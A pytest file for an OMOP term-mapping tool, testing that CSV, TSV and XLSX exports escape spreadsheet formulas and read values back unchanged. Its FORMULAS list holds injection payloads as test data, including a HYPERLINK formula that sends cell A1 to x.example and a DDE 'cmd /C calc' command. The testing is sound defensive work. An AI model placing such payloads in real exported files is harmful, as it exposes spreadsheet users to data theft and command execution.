"""Formula text: what a spreadsheet would calculate is text in files for people, and read back unchanged."""

from __future__ import annotations

import csv
from itertools import product
from pathlib import Path

import openpyxl
import pytest

from omop_emb.mapping.approvals.approved_file import read_approved
from omop_emb.mapping.files.formula_text import as_meant, as_text, is_formula
from omop_emb.mapping.files.review_queue import write_review_queue
from omop_emb.mapping.files.table_writer import Column, write_table
from omop_emb.mapping.files.term_file import open_terms
from omop_emb.mapping.records import SourceTerm
from tests.unit.mapping.files.sample_results import candidate, mapped

FORMULAS = (
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=",
    "-",
    "- pain",
    "+++",
    "=1+1 fever",
    "＝1+1",  # noqa: RUF001 - a wide sign
    "＠SUM(1)",  # noqa: RUF001 - a wide sign
    "'=1",
    "''=1",
    "'-",
    "'''@x",
)
PLAIN = (
    *("fever", "'fever'", "'", "''", "a=b", "5-HT", "x@y", "'s Gravenhage", "(+) test", '"=1"', "1.5", "007"),
    "",
)
SHORT = ["".join(signs) for length in range(4) for signs in product("'=-@ \tx\r", repeat=length)]
FORMATS = ("q.csv", "q.tsv", "q.xlsx")


def queue(path: Path, names: tuple[str, ...], header: str = "ward") -> None:
    with write_review_queue(path, extra_headers=[header]) as add:
        for code, name in enumerate(names):
            term = SourceTerm(name=f"{name}fever", code=f"c{code}", extra={header: name})
            add(mapped(term, candidate(5), priority=float(100 - code)))


def written_cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.reader(file, delimiter="\t" if path.suffix == ".tsv" else ","))


@pytest.mark.parametrize("text", SHORT)
def test_a_written_text_is_no_formula_and_means_what_it_was(text: str) -> None:
    assert as_meant(as_text(text)) == text
    assert as_text(text)[:1] not in ("=", "-", "@", "\t", "\r")
    assert is_formula(as_text(text)) is is_formula(text)


@pytest.mark.parametrize("name", ["q.csv", "q.tsv"])
def test_no_cell_of_a_queue_is_a_formula_and_a_column_names_what_was(name: str, tmp_path: Path) -> None:
    queue(tmp_path / name, FORMULAS, header="=ward")
    header, *rows = written_cells(tmp_path / name)
    assert len(rows) == len(FORMULAS)
    assert not [cell for row in (header, *rows) for cell in row if cell[:1] in tuple("=+-@\t\r＝＠")]  # noqa: RUF001 - wide signs
    assert "'=ward" in header
    listed = [row[header.index("apostrophe_before")] for row in rows]
    assert set(listed) == {"source_name, =ward"}


@pytest.mark.parametrize("name", FORMATS)
def test_a_queue_is_read_back_unchanged(name: str, tmp_path: Path) -> None:
    names = (*FORMULAS, *PLAIN)
    queue(tmp_path / name, names, header="=ward")
    with open_terms(tmp_path / name) as file:
        assert {term.code: (term.name, term.extra["=ward"]) for term in file} == {
            f"c{code}": (f"{text}fever", text) for code, text in enumerate(names)
        }


@pytest.mark.parametrize("name", ["q.csv", "q.tsv", "q.xlsx"])
def test_approvals_of_a_queue_are_of_the_terms_that_were_written(name: str, tmp_path: Path) -> None:
    queue(tmp_path / name, FORMULAS)
    if name == "q.xlsx":
        book = openpyxl.load_workbook(tmp_path / name)
        rows = [[cell.value for cell in row] for row in book.active.iter_rows()]
    else:
        rows = written_cells(tmp_path / name)
    column = rows[0].index("reviewed")
    for row in rows[1:]:
        row[column] = "approve"
    if name == "q.xlsx":
        for number in range(2, len(rows) + 1):
            book.active.cell(number, column + 1).value = "approve"
        book.save(tmp_path / name)
    else:
        with (tmp_path / name).open("w", encoding="utf-8", newline="") as file:
            csv.writer(file, delimiter="\t" if name == "q.tsv" else ",").writerows(rows)
    assert [mapping.term.name for mapping in read_approved(tmp_path / name).approved] == [
        f"{text}fever" for text in FORMULAS
    ]


def test_a_queue_that_a_spreadsheet_saved_as_a_workbook_is_read_back_unchanged(tmp_path: Path) -> None:
    queue(tmp_path / "q.csv", FORMULAS)
    book = openpyxl.Workbook()
    for row in written_cells(tmp_path / "q.csv"):
        book.active.append(row)
    book.save(tmp_path / "q.xlsx")
    with open_terms(tmp_path / "q.xlsx") as file:
        assert [term.extra["ward"] for term in file] == list(FORMULAS)


@pytest.mark.parametrize("text", FORMULAS)
def test_a_workbook_has_text_that_stays_text_when_it_is_edited(text: str, tmp_path: Path) -> None:
    with write_table(tmp_path / "t.xlsx", [Column("a")]) as write_row:
        write_row({"a": text})
    cell = openpyxl.load_workbook(tmp_path / "t.xlsx").active["A2"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)


@pytest.mark.parametrize("text", [*FORMULAS, *PLAIN])
@pytest.mark.parametrize("name", ["t.csv", "t.tsv", "t.parquet"])
def test_a_file_for_machines_is_exact(name: str, text: str, tmp_path: Path) -> None:
    with write_table(tmp_path / name, [Column("name"), Column("other")]) as write_row:
        write_row({"name": "fever", "other": text})
    with open_terms(tmp_path / name) as file:
        (term,) = file
    assert term.extra["other"] == text
    assert file.headers == ["name", "other"]


def test_numbers_of_a_queue_stay_numbers(tmp_path: Path) -> None:
    queue(tmp_path / "q.csv", ("a", "b"))
    header, *rows = written_cells(tmp_path / "q.csv")
    assert [row[header.index("priority")] for row in rows] == ["100.0", "99.0"]
